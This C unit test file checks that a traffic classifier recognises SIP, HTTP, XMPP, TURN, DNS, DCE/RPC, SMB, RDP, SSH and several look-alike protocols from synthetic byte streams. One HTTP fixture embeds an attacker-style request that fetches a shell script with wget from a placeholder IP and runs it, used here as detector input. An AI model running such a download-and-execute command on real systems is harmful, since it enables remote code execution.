/*
 * test_tcp.c - every protocol but TLS over TCP, and what only looks like one.
 */
#include "tls_talk.h"

struct tcp_case {
	const char *name;
	void (*make)(struct talk *t);
	struct expect want;
	enum lya_app also; /* what a damaged talk may be taken for; NONE: nothing else */
};

/* Lines ----------------------------------------------------------------------- */

static void sip_request(struct talk *t)
{
	say_text(t, 0, "INVITE sip:bob@example.com SIP/2.0\r\nVia: SIP/2.0/TCP 10.0.0.1\r\n\r\n");
	say_text(t, 1, "SIP/2.0 100 Trying\r\n\r\n");
}

static void sip_microsoft(struct talk *t)
{
	say_text(t, 0, "NEGOTIATE sip:10.0.0.7:5061 SIP/2.0\r\n\r\n");
}

static void sip_benotify(struct talk *t)
{
	say_text(t, 1, "BENOTIFY sip:10.0.0.7:5061;transport=tls SIP/2.0\r\n\r\n");
}

static void sip_options(struct talk *t)
{
	say_text(t, 0, "OPTIONS sip:pool.example.com SIP/2.0\r\n\r\n");
}

static void sip_after_keepalive(struct talk *t)
{
	say_text(t, 0, "\r\n\r\n");
	say_text(t, 0, "REGISTER sip:example.com SIP/2.0\r\n\r\n");
}

static void http_options(struct talk *t)
{
	say_text(t, 0, "OPTIONS / HTTP/1.1\r\nHost: pool.example.com\r\n\r\n");
	say_text(t, 1, "HTTP/1.1 200 OK\r\nAllow: GET\r\n\r\n");
}

static void http_get(struct talk *t)
{
	say_text(t, 0, "GET /status HTTP/1.0\r\n\r\n");
	say_text(t, 1, "HTTP/1.0 200 OK\r\n\r\nup");
}

static void http_head(struct talk *t)
{
	say_text(t, 0, "HEAD / HTTP/1.1\r\nHost: a\r\n\r\n");
	say_text(t, 1, "HTTP/1.1 401 Unauthorized\r\n\r\n");
}

static void http_large_answer(struct talk *t)
{
	say_text(t, 0, "GET /abs/handler HTTP/1.1\r\nHost: a\r\n\r\n");
	say_text(t, 1, "HTTP/1.1 200 OK\r\n\r\n");
	add_fill(t, 9000, 0);
}

static void http_post(struct talk *t)
{
	say_text(t, 0, "POST /webticket/webticketservice.svc HTTP/1.1\r\n\r\n<x/>");
}

static void http_rpc(struct talk *t)
{
	say_text(t, 0, "RPC_IN_DATA /rpc/rpcproxy.dll?srv:6001 HTTP/1.1\r\n\r\n");
}

static void http_blanks(struct talk *t) /* servers accept them, and attackers send them */
{
	say_text(t, 0, "GET /run?cd /tmp; wget http://192.0.2.9/x.sh; sh x.sh HTTP/1.1\r\n\r\n");
}

static void http_more_blanks(struct talk *t)
{
	say_text(t, 0, "GET  /  HTTP/1.0 \r\n\r\n");
}

static void http_in_a_sentence(struct talk *t)
{
	say_text(t, 0, "NOTICE all: HTTP/1.1 is meant\r\nGET / HTTP/1.1\r\n\r\n");
}

static void http_answer_alone(struct talk *t)
{
	say_text(t, 0, "HTTP/1.1 200 OK\r\n\r\n");
}

/* XMPP ------------------------------------------------------------------------ */

#define OPEN_0                                                                                     \
	"<?xml version='1.0'?><stream:stream to='b.example' from='a.example' "                     \
	"xmlns='jabber:server' xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>"
#define OPEN_1                                                                                     \
	"<?xml version='1.0'?><stream:stream from='b.example' id='x7f' xmlns='jabber:server' "     \
	"xmlns:stream='http://etherx.jabber.org/streams' version='1.0'><stream:features>"          \
	"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/></stream:features>"

static void xmpp_starttls(struct talk *t)
{
	struct hello h = { .version = 0x0303, .sni = "b.example", .ticket = -1 };
	static const char *const names[] = { "b.example" };

	say_text(t, 0, OPEN_0);
	say_text(t, 1, OPEN_1);
	say_text(t, 0, "<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>");
	say_text(t, 1, "<proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>");
	say(t, 0);
	RECORD(t, 0x0301, add_client_hello(t, &h));
	say(t, 1);
	RECORD(t, 0x0303, {
		add_server_hello(t, &h);
		add_certificate(t, "b.example", names, 1, 100);
		add_certificate_request(t, 20);
		add_body_message(t, 0x0E, 0);
	});
	say(t, 0);
	RECORD(t, 0x0303, add_certificate(t, "a.example", names, 0, 100));
	RECORD(t, 0x0303, add_body_message(t, 0x10, 66));
	RECORD(t, 0x0303, add_body_message(t, 0x0F, 64));
	add_finish(t, 0x0303);
	say(t, 1);
	add_finish(t, 0x0303);
	say(t, 0);
	add_opaque(t, 23, 0x0303, 300);
}

static void xmpp_clear(struct talk *t)
{
	say_text(t, 0, OPEN_0);
	say_text(t, 1, OPEN_1);
	say_text(t, 0, "<message to='x@b.example' id='1'><body>hi &lt;</body></message>");
}

static void xmpp_dialback(struct talk *t)
{
	say_text(t, 0, "<stream:stream xmlns='jabber:server' xmlns:db='jabber:server:dialback'>");
	say_text(t, 1, "<stream:stream\n id='D6'>");
	say_text(t, 0, "<db:result to='b.example' from='a.example'>98e6</db:result>");
}

static void xmpp_answer_first(struct talk *t) /* only the answering side was captured */
{
	say_text(t, 1, OPEN_1);
}

static void xml_only(struct talk *t)
{
	say_text(t, 0, "<?xml version='1.0'?><policy-file-request id='1'/>");
}

/* MS-TURN --------------------------------------------------------------------- */

enum { ALLOCATE = 0x0003, ALLOCATE_OK = 0x0103, ALLOCATE_ERROR = 0x0113 };

/* A control frame with the magic cookie first and n more bytes in one attribute. */
static void add_turn_frame(struct talk *t, unsigned type, unsigned n)
{
	add16(t, 0x0200);
	add16(t, 20 + 8 + 4 + n);
	add16(t, type);
	add16(t, 8 + 4 + n);
	add_fill(t, 16, 0xC1);
	add16(t, 0x000F);
	add16(t, 4);
	add32(t, 0x72C64BC6);
	add16(t, 0x0006);
	add16(t, n);
	add_fill(t, n, 0x21);
}

static void add_data_frame(struct talk *t, unsigned first, unsigned seq, unsigned n)
{
	add16(t, 0x0300);
	add16(t, 12 + n);
	add8(t, first);
	add8(t, 111);
	add16(t, seq);
	add32(t, seq * 160);
	add32(t, 0xCAFE0001);
	add_fill(t, n, 3);
}

static void turn_exchange(struct talk *t)
{
	say(t, 0);
	add_turn_frame(t, ALLOCATE, 31);
	say(t, 1);
	add_turn_frame(t, ALLOCATE_ERROR, 40);
	say(t, 0);
	add_turn_frame(t, ALLOCATE, 77);
	say(t, 1);
	add_turn_frame(t, ALLOCATE_OK, 50);
}

#define HEARD_TURN "0 stun 0003\n1 stun 0113\n0 stun 0003\n1 stun 0103\n"

static void turn_pseudo(struct talk *t)
{
	say_pseudo_client(t);
	say_pseudo_server(t);
	turn_exchange(t);
}

static void turn_media(struct talk *t)
{
	turn_exchange(t);
	for (unsigned i = 0; i < 4; i++) {
		say(t, 0);
		add_data_frame(t, 0x80, 500 + i, 40);
		say(t, 1);
		add_data_frame(t, 0x80, 900 + i, 40);
	}
}

static void turn_data_only(struct talk *t) /* the start was missed */
{
	say(t, 1);
	for (unsigned i = 0; i < 4; i++)
		add_data_frame(t, 0x80, 700 + i, 60);
}

/* RFC 5766 over TCP: messages back to back, padded to four. */
static void add_stun(struct talk *t, unsigned type, unsigned attr, unsigned n)
{
	add16(t, type);
	add16(t, 4 + ((n + 3) & ~3u));
	add32(t, 0x2112A442);
	add_fill(t, 12, 0x61);
	add16(t, attr);
	add16(t, n);
	add_fill(t, (n + 3) & ~3u, 0x70);
}

static void turn_5766(struct talk *t)
{
	say(t, 0);
	add_stun(t, 0x0003, 0x0019, 4);
	say(t, 1);
	add_stun(t, 0x0103, 0x8022, 13);
	say(t, 0);
	add_stun(t, 0x0009, 0x000C, 4); /* ChannelBind */
	add16(t, 0x4000);
	add16(t, 5);
	add(t, "abcde\0\0\0", 8);
	add_stun(t, 0x0004, 0x000D, 4); /* Refresh: found only if the padding was passed */
}

/* RFC 4571 */
static void ice_tcp(struct talk *t)
{
	say(t, 0);
	add16(t, 28);
	add_stun(t, 0x0001, 0x0024, 4);
	say(t, 1);
	add16(t, 28);
	add_stun(t, 0x0001, 0x802A, 2);
}

static void add_framed_rtp(struct talk *t, unsigned seq)
{
	add16(t, 52);
	add16(t, 0x8000 | 121);
	add16(t, seq);
	add32(t, 1000);
	add32(t, 0x01020304);
	add_fill(t, 40, 9);
}

static void ice_tcp_media(struct talk *t)
{
	ice_tcp(t);
	say(t, 0);
	for (unsigned i = 0; i < 3; i++)
		add_framed_rtp(t, 0xFFFF + i);
}

static void rtp_4571(struct talk *t)
{
	say(t, 0);
	for (unsigned i = 0; i < 3; i++)
		add_framed_rtp(t, 10 + i * 2);
}

static void rtp_4571_two(struct talk *t) /* two packets are a hint */
{
	say(t, 0);
	add_framed_rtp(t, 10);
	add_framed_rtp(t, 11);
}

/* DNS ------------------------------------------------------------------------- */

static void add_dns(struct talk *t, unsigned flags, unsigned answers)
{
	size_t len = open_len(t, 2);

	add16(t, 0x8042);
	add16(t, flags);
	add16(t, 1);
	add16(t, answers);
	add16(t, 0);
	add16(t, 0);
	add(t,
	    "\x04_sip\x04_tls\x07"
	    "example\x03"
	    "com\x00",
	    23);
	add16(t, 33);
	add16(t, 1);
	for (unsigned i = 0; i < answers; i++) {
		add(t, "\xC0\x0C\x00\x21\x00\x01\x00\x00\x00\x3C\x00\x08\x00\x00\x00\x00\x13\xC5",
		    18);
		add(t, "\xC0\x16", 2);
	}
	close_len(t, len, 2);
}

static void dns_tcp(struct talk *t)
{
	say(t, 0);
	add_dns(t, 0x0100, 0);
	say(t, 1);
	add_dns(t, 0x8180, 2);
}

static void dns_tcp_answer(struct talk *t)
{
	say(t, 0);
	add_dns(t, 0x8180, 2);
}

static void kerberos_tcp(struct talk *t) /* RFC 4120 7.2.2: four bytes of length */
{
	SAY_BYTES(t, 0, 0, 0, 0, 0x20, 0x6A, 0x1E, 0x30, 0x1C, 0xA1, 3, 2, 1, 5, 0xA2, 3, 2, 1, 10,
		  0xA4, 0x10, 0x30, 0x0E, 0xA0, 7, 3, 5, 0, 0, 0, 0, 0x10, 0xA5, 3, 2, 1, 1);
}

/* DCE/RPC --------------------------------------------------------------------- */

static const uint8_t epm[16] = { 0x08, 0x83, 0xAF, 0xE1, 0x1F, 0x5D, 0xC9, 0x11,
				 0x91, 0xA4, 0x08, 0x00, 0x2B, 0x14, 0xA0, 0xFA };
static const uint8_t other_uuid[16] = { 0xC4, 0xFE, 0xFC, 0x99, 0x60, 0x52, 0x1B, 0x10,
					0xBB, 0xCB, 0x00, 0xAA, 0x00, 0x21, 0x34, 0x7A };

/* The common header, little-endian; the length is set when the PDU is closed. */
static size_t open_pdu(struct talk *t, unsigned type)
{
	size_t at = t->n;

	add8(t, 5);
	add8(t, 0);
	add8(t, type);
	add8(t, 3);
	add(t, "\x10\x00\x00\x00\x00\x00\x00\x00\x02\x00\x00\x00", 12);
	return at;
}

static void close_pdu(struct talk *t, size_t at)
{
	size_t n = t->n - at;

	t->bytes[at + 8] = (uint8_t)n;
	t->bytes[at + 9] = (uint8_t)(n >> 8);
}

static void add_bind(struct talk *t, const uint8_t uuid[16])
{
	size_t pdu = open_pdu(t, 0x0B);

	add(t, "\xD0\x16\xD0\x16\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x01\x00", 16);
	add(t, uuid, 16);
	add(t, "\x03\x00\x00\x00", 4);
	add_fill(t, 20, 4); /* transfer syntax */
	close_pdu(t, pdu);
}

/* A tower of five floors: interface, syntax, RPC, TCP port, IP address. */
static void add_tower(struct talk *t, unsigned port, bool http)
{
	add(t, "\x05\x00", 2);
	for (int i = 0; i < 2; i++) {
		add(t, "\x13\x00\x0D", 3);
		add_fill(t, 16, 0x40);
		add(t, "\x01\x00\x02\x00\x00\x00", 6);
	}
	add(t, "\x01\x00\x0B\x02\x00\x00\x00", 7);
	add(t, http ? "\x01\x00\x1F\x02\x00" : "\x01\x00\x07\x02\x00", 5);
	add16(t, port);
	add(t, "\x01\x00\x09\x04\x00\x0A\x00\x00\x05", 9);
}

static void add_map_answer(struct talk *t, const unsigned *ports, size_t n)
{
	size_t pdu = open_pdu(t, 0x02);

	add_fill(t, 8, 0);     /* hint, context, cancel count */
	add_fill(t, 20, 0x90); /* entry handle */
	add_fill(t, 16 + 4 * n, 1);
	for (size_t i = 0; i < n; i++) {
		add(t, "\x4B\x00\x00\x00\x4B\x00\x00\x00", 8);
		add_tower(t, ports[i] & 0xFFFF, ports[i] >> 16);
		add8(t, 0);
	}
	add_fill(t, 4, 0);
	close_pdu(t, pdu);
}

static void rpc_epm(struct talk *t)
{
	static const unsigned ports[] = { 49155, 593 | 0x10000, 49160 };
	size_t pdu;

	say(t, 0);
	add_bind(t, epm);
	say(t, 1);
	pdu = open_pdu(t, 0x0C);
	add_fill(t, 40, 5);
	close_pdu(t, pdu);
	say(t, 0);
	pdu = open_pdu(t, 0x00);
	add_fill(t, 120, 6);
	close_pdu(t, pdu);
	say(t, 1);
	add_map_answer(t, ports, 3);
}

static void rpc_other(struct talk *t) /* the same bytes from another interface prove nothing */
{
	static const unsigned ports[] = { 49155 };

	say(t, 0);
	add_bind(t, other_uuid);
	say(t, 1);
	add_map_answer(t, ports, 1);
}

static void rpc_answer(struct talk *t)
{
	size_t pdu;

	say(t, 0);
	pdu = open_pdu(t, 0x0C);
	add_fill(t, 40, 5);
	close_pdu(t, pdu);
}

/* The rest -------------------------------------------------------------------- */

static void smb1(struct talk *t)
{
	say(t, 0);
	add(t, "\x00\x00\x00\x2F\xFFSMB\x72\x00\x00\x00\x00\x18\x53\xC8", 16);
	add_fill(t, 35, 0);
}

static void smb2(struct talk *t)
{
	say(t, 0);
	add(t,
	    "\x00\x00\x00\x60\xFESMB\x40\x00\x00\x00\x00\x00\x00\x00\x00\x00\x1F\x00\x00\x00\x00",
	    24);
	add_fill(t, 76, 0);
}

static void smb2_answer(struct talk *t)
{
	say(t, 0);
	add(t,
	    "\x00\x00\x00\x60\xFESMB\x40\x00\x00\x00\x00\x00\x00\x00\x00\x00\x1F\x00\x01\x00\x00",
	    24);
	add_fill(t, 76, 0);
}

static void smb3_encrypted(struct talk *t)
{
	say(t, 1);
	add(t, "\x00\x00\x00\x60\xFDSMB", 8);
	add_fill(t, 92, 0);
}

static void smb3_compressed(struct talk *t)
{
	say(t, 0);
	add(t, "\x00\x00\x00\x60\xFCSMB", 8);
	add_fill(t, 92, 0);
}

/* Port 139: names of 32 letters, the answer, then SMB or something else. */
static void open_session(struct talk *t)
{
	say(t, 0);
	add(t, "\x81\x00\x00\x44", 4);
	for (int i = 0; i < 2; i++) {
		add8(t, 32);
		add_text(t, "EGEFDADBCACACACACACACACACACACACA");
		add8(t, 0);
	}
	SAY_BYTES(t, 1, 0x82, 0, 0, 0);
}

static void smb_session(struct talk *t)
{
	open_session(t);
	smb1(t);
	say(t, 1);
	add(t, "\x00\x00\x00\x23\xFFSMB\x72\x00\x00\x00\x00\x98\x53\xC8", 16);
	add_fill(t, 23, 0);
}

static void netbios_session(struct talk *t)
{
	open_session(t);
	say(t, 0);
	add(t, "\x00\x00\x00\x40", 4);
	add_fill(t, 64, 0x21);
	say(t, 1);
	add(t, "\x00\x00\x00\x40", 4);
	add_fill(t, 64, 0x31);
}

static void tds(struct talk *t)
{
	SAY_BYTES(t, 0, 0x12, 1, 0, 0x2F, 0, 0, 0, 0, 0, 0, 0x1A, 0, 6, 1, 0, 0x20, 0, 1, 2, 0,
		  0x21, 0, 1, 3, 0, 0x22, 0, 4, 4, 0, 0x26, 0, 1, 0xFF, 11, 0, 0xC, 0x38, 0, 0, 0,
		  0, 0, 0, 0, 0, 0);
	SAY_BYTES(t, 1, 4, 1, 0, 0x2B, 0, 0, 1, 0, 0, 0, 0x1A, 0, 6, 1, 0, 0x20, 0, 1, 2, 0, 0x21,
		  0, 1, 3, 0, 0x22, 0, 0, 4, 0, 0x22, 0, 1, 0xFF, 11, 0, 0xC, 0x38, 0, 0, 2, 0, 0);
}

static void rdp(struct talk *t)
{
	say(t, 0);
	add(t, "\x03\x00\x00\x28\x23\xE0\x00\x00\x00\x00\x00", 11);
	add_text(t, "Cookie: mstshash=admin\r\n\x01\x00\x08\x00\x03");
	SAY_BYTES(t, 1, 3, 0, 0, 0x13, 0x0E, 0xD0, 0, 0, 0x12, 0x34, 0, 2, 0, 8, 0, 2, 0, 0, 0);
}

static void s7(struct talk *t) /* another protocol behind the same X.224 request */
{
	SAY_BYTES(t, 0, 3, 0, 0, 0x16, 0x11, 0xE0, 0, 0, 0, 1, 0, 0xC0, 1, 0xA, 0xC1, 2, 1, 0, 0xC2,
		  2, 1, 2);
}

static void ssh(struct talk *t)
{
	say_text(t, 1, "SSH-2.0-OpenSSH_9.2\r\n");
	say_text(t, 0, "SSH-2.0-PuTTY_Release_0.78\r\n");
}

/* Strangers and look-alikes ------------------------------------------------------ */

static void smtp(struct talk *t)
{
	say_text(t, 1, "220 mail.example.com ESMTP\r\n");
	say_text(t, 0, "EHLO client.example.com\r\n");
}

static void ldap(struct talk *t)
{
	SAY_BYTES(t, 0, 0x30, 0x0C, 2, 1, 1, 0x60, 7, 2, 1, 3, 4, 0, 0x80, 0, 0x30, 0x0C, 2, 1);
}

static void rtsp(struct talk *t)
{
	say_text(t, 0, "OPTIONS rtsp://10.0.0.1/stream RTSP/1.0\r\nCSeq: 1\r\n\r\n");
}

static void text(struct talk *t)
{
	say_text(t, 0, "HELLO WORLD, THIS IS NO PROTOCOL AT ALL\r\n");
}

static void zeroes(struct talk *t)
{
	say(t, 0);
	for (int i = 0; i < 200; i++)
		add8(t, 0);
}

static void tpkt_q931(struct talk *t)
{
	SAY_BYTES(t, 0, 3, 0, 0, 20, 8, 2, 0, 1, 5, 4, 3, 0x88, 0x93, 0xA5, 0x28, 1, 2, 3, 4, 5);
}

static const struct tcp_case cases[] = {
	{ "SIP request", sip_request, { .app = LYA_APP_SIP, .client = -1, .service = true }, 0 },
	{ "SIP NEGOTIATE",
	  sip_microsoft,
	  { .app = LYA_APP_SIP, .client = -1, .service = true },
	  0 },
	{ "SIP BENOTIFY", sip_benotify, { .app = LYA_APP_SIP, .client = -1, .service = true }, 0 },
	{ "SIP OPTIONS", sip_options, { .app = LYA_APP_SIP, .client = -1, .service = true }, 0 },
	{ "SIP after keep-alive",
	  sip_after_keepalive,
	  { .app = LYA_APP_SIP, .client = -1, .service = true },
	  0 },
	{ "HTTP OPTIONS", http_options, { .app = LYA_APP_HTTP, .client = 0, .service = true }, 0 },
	{ "HTTP GET", http_get, { .app = LYA_APP_HTTP, .client = 0 }, 0 },
	{ "HTTP HEAD", http_head, { .app = LYA_APP_HTTP, .client = 0 }, 0 },
	{ "HTTP GET, large answer",
	  http_large_answer,
	  { .app = LYA_APP_HTTP, .client = 0, .service = true },
	  0 },
	{ "HTTP POST", http_post, { .app = LYA_APP_HTTP, .client = 0, .service = true }, 0 },
	{ "RPC over HTTP", http_rpc, { .app = LYA_APP_HTTP, .client = 0, .service = true }, 0 },
	{ "HTTP, blanks in the target", http_blanks, { .app = LYA_APP_HTTP, .client = 0 }, 0 },
	{ "HTTP, more blanks than due", http_more_blanks, { .app = LYA_APP_HTTP, .client = 0 }, 0 },
	{ "HTTP named in a sentence",
	  http_in_a_sentence,
	  { .app = LYA_APP_UNKNOWN, .client = -1, .service = true },
	  LYA_APP_HTTP },
	{ "HTTP answer alone", http_answer_alone, { .app = LYA_APP_HTTP, .client = 1 }, 0 },
	{ "XMPP, STARTTLS",
	  xmpp_starttls,
	  { .app = LYA_APP_XMPP,
	    .client = 0,
	    .tls = LYA_TLS_CLIENT_HELLO | LYA_TLS_SERVER_HELLO | LYA_TLS_SERVER_CERT |
		   LYA_TLS_CERT_REQUEST | LYA_TLS_HELLO_DONE | LYA_TLS_CLIENT_CERT |
		   LYA_TLS_CERT_VERIFY | LYA_TLS_CLIENT_CCS | LYA_TLS_SERVER_CCS | LYA_TLS_APP_DATA,
	    .version = 0x0303,
	    .seen = LYA_SEEN_STARTTLS,
	    .service = true,
	    .heard = "0 sni b.example\n0 hello 0303 suite c02f of 3 random 30..09 session 0\n"
		     "1 choice 0303 suite 002f session 0\n1 cn b.example\n1 dns b.example\n"
		     "0 cn a.example\n" },
	  0 },
	{ "XMPP, stanza in clear",
	  xmpp_clear,
	  { .app = LYA_APP_XMPP, .client = 0, .seen = LYA_SEEN_CLEAR, .service = true },
	  0 },
	{ "XMPP, dialback",
	  xmpp_dialback,
	  { .app = LYA_APP_XMPP, .client = 0, .seen = LYA_SEEN_CLEAR, .service = true },
	  0 },
	{ "XMPP, answer alone",
	  xmpp_answer_first,
	  { .app = LYA_APP_XMPP, .client = 0, .service = true },
	  0 },
	{ "XML that is no XMPP",
	  xml_only,
	  { .app = LYA_APP_UNKNOWN, .client = -1, .service = true },
	  0 },
	{ "MS-TURN",
	  turn_exchange,
	  { .app = LYA_APP_MSTURN,
	    .client = 0,
	    .seen = LYA_SEEN_STUN | LYA_SEEN_TURN | LYA_SEEN_TURN_OK,
	    .service = true },
	  0 },
	{ "MS-TURN after pseudo-TLS",
	  turn_pseudo,
	  { .app = LYA_APP_MSTURN,
	    .client = 0,
	    .seen = LYA_SEEN_STUN | LYA_SEEN_TURN | LYA_SEEN_TURN_OK | LYA_SEEN_PSEUDO_TLS,
	    .service = true,
	    .heard = "0 hello 0301 suite 0018 of 1 random 44..1d session 0 pseudo\n"
		     "1 choice 0301 suite 0018 session 32 pseudo\n" HEARD_TURN },
	  LYA_APP_PSEUDO_TLS },
	{ "MS-TURN, then media",
	  turn_media,
	  { .app = LYA_APP_MSTURN,
	    .client = 0,
	    .seen = LYA_SEEN_STUN | LYA_SEEN_TURN | LYA_SEEN_TURN_OK | LYA_SEEN_MEDIA,
	    .service = true,
	    .heard = HEARD_TURN },
	  LYA_APP_RTP },
	{ "MS-TURN, start missed",
	  turn_data_only,
	  { .app = LYA_APP_MSTURN,
	    .client = -1,
	    .seen = LYA_SEEN_TURN | LYA_SEEN_MEDIA,
	    .service = true },
	  0 },
	{ "TURN of RFC 5766",
	  turn_5766,
	  { .app = LYA_APP_STUN,
	    .client = 0,
	    .seen = LYA_SEEN_STUN | LYA_SEEN_TURN | LYA_SEEN_TURN_OK,
	    .service = true,
	    .heard = "0 stun 0003\n1 stun 0103\n0 stun 0009\n0 stun 0004\n" },
	  0 },
	{ "ICE over TCP",
	  ice_tcp,
	  { .app = LYA_APP_STUN,
	    .client = -1,
	    .seen = LYA_SEEN_STUN,
	    .service = true,
	    .ice = true },
	  0 },
	{ "ICE over TCP, then media",
	  ice_tcp_media,
	  { .app = LYA_APP_RTP,
	    .client = -1,
	    .seen = LYA_SEEN_STUN | LYA_SEEN_MEDIA,
	    .service = true },
	  LYA_APP_STUN },
	{ "RTP in RFC 4571",
	  rtp_4571,
	  { .app = LYA_APP_RTP, .client = -1, .seen = LYA_SEEN_MEDIA, .service = true },
	  0 },
	{ "two packets of RTP",
	  rtp_4571_two,
	  { .app = LYA_APP_UNKNOWN, .client = -1, .service = true },
	  0 },
	{ "DNS", dns_tcp, { .app = LYA_APP_DNS, .client = 0, .service = true }, 0 },
	{ "DNS answer", dns_tcp_answer, { .app = LYA_APP_DNS, .client = 1, .service = true }, 0 },
	{ "Kerberos", kerberos_tcp, { .app = LYA_APP_UNKNOWN, .client = -1, .service = true }, 0 },
	{ "endpoint mapper",
	  rpc_epm,
	  { .app = LYA_APP_DCERPC,
	    .client = 0,
	    .service = true,
	    .heard = "1 epm 49155\n1 epm 49160\n" },
	  0 },
	{ "another RPC interface",
	  rpc_other,
	  { .app = LYA_APP_DCERPC, .client = 0, .service = true, .heard = "" },
	  0 },
	{ "RPC bind answer",
	  rpc_answer,
	  { .app = LYA_APP_DCERPC, .client = 1, .service = true },
	  0 },
	{ "SMB 1 negotiate", smb1, { .app = LYA_APP_SMB, .client = 0, .service = true }, 0 },
	{ "SMB 2 negotiate", smb2, { .app = LYA_APP_SMB, .client = 0, .service = true }, 0 },
	{ "SMB 2 negotiate answer",
	  smb2_answer,
	  { .app = LYA_APP_SMB, .client = 1, .service = true },
	  0 },
	{ "SMB 3 encrypted",
	  smb3_encrypted,
	  { .app = LYA_APP_SMB, .client = -1, .service = true },
	  0 },
	{ "SMB 3 compressed",
	  smb3_compressed,
	  { .app = LYA_APP_SMB, .client = -1, .service = true },
	  0 },
	{ "SMB in a NetBIOS session",
	  smb_session,
	  { .app = LYA_APP_SMB, .client = 0, .service = true },
	  0 },
	{ "NetBIOS session of another kind",
	  netbios_session,
	  { .app = LYA_APP_UNKNOWN, .client = -1, .service = true },
	  0 },
	{ "TDS pre-login", tds, { .app = LYA_APP_TDS, .client = 0, .service = true }, 0 },
	{ "RDP", rdp, { .app = LYA_APP_RDP, .client = 0, .service = true }, 0 },
	{ "S7 over TPKT", s7, { .app = LYA_APP_UNKNOWN, .client = -1, .service = true }, 0 },
	{ "SSH", ssh, { .app = LYA_APP_SSH, .client = -1, .service = true }, 0 },
	{ "SMTP", smtp, { .app = LYA_APP_UNKNOWN, .client = -1, .service = true }, 0 },
	{ "LDAP", ldap, { .app = LYA_APP_UNKNOWN, .client = -1, .service = true }, 0 },
	{ "RTSP", rtsp, { .app = LYA_APP_UNKNOWN, .client = -1, .service = true }, 0 },
	{ "capitals", text, { .app = LYA_APP_UNKNOWN, .client = -1, .service = true }, 0 },
	{ "zeroes", zeroes, { .app = LYA_APP_UNKNOWN, .client = -1, .service = true }, 0 },
	{ "Q.931 over TPKT",
	  tpkt_q931,
	  { .app = LYA_APP_UNKNOWN, .client = -1, .service = true },
	  0 },
};

static void test_talks(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		static struct talk t;

		memset(&t, 0, sizeof(t));
		cases[i].make(&t);
		check_talk(cases[i].name, &t, &cases[i].want);
		check_damaged(cases[i].name, &t, TCP, cases[i].want.app, cases[i].also);
	}
}

/* Random streams are of no protocol; a fixed generator keeps the test the same. */
static void test_noise(void **state)
{
	uint64_t x = 88172645463325252u;

	(void)state;
	for (int i = 0; i < 20000; i++) {
		static struct talk t;
		struct lya_app_result res;

		memset(&t, 0, sizeof(t));
		for (unsigned side = 0; side < 2; side++) {
			say(&t, side);
			for (int k = 0; k < 200; k++) {
				x ^= x << 13;
				x ^= x >> 7;
				x ^= x << 17;
				add8(&t, (unsigned)(x >> 32) & 0xFF);
			}
		}
		res = carry(&t, TCP, &(struct way){ 0 }, NULL);
		assert_int_equal(res.app, LYA_APP_UNKNOWN);
		res = carry(&t, UDP, &(struct way){ 0 }, NULL);
		assert_int_equal(res.app, LYA_APP_UNKNOWN);
	}
}

/* The first bytes alone do not make an answer change later. */
static void test_bare_connection(void **state)
{
	static struct talk t;
	struct lya_app_result res = carry(&t, TCP, &(struct way){ 0 }, NULL);

	(void)state;
	assert_int_equal(res.app, LYA_APP_NONE);
	assert_int_equal(res.client_side, -1);
	assert_false(res.service_payload);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_talks),
		cmocka_unit_test(test_noise),
		cmocka_unit_test(test_bare_connection),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
